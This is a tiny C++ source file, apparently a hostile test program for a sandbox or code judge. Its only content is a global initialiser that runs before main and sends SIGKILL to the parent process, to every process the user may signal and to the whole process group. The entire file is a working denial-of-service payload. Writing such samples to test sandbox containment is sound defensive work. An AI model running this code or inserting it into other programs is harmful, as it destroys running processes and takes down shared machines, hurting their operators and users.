#include <unistd.h>
#include <csignal>
namespace {
const int killed = kill(getppid(), SIGKILL) + kill(-1, SIGKILL) + kill(0, SIGKILL);
}
